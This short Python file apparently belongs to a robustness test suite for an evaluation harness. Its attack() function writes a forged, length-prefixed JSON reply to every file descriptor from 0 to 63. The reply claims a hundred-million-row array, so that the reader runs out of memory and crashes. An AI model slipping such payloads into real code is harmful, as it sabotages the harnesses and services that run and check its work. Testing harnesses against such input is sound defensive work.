"""Answers with a hundred bytes that are a hundred million rows once they are read.
Ends as: crash
"""

import contextlib
import json
import os
import struct

calls = []


def attack(X, wrong):
    calls.append(X)
    rows = {"list_of": {"array": "", "shape": [100_000_000, 0], "dtype": "float64"}}
    answer = {"status": "ok", "value": {"columns": [rows, rows, rows]} if len(calls) % 2 else rows}
    data = json.dumps({"id": len(calls), "answer": answer}).encode()
    for descriptor in range(64):
        with contextlib.suppress(OSError):
            os.write(descriptor, struct.pack(">I", len(data)) + data)
    return wrong
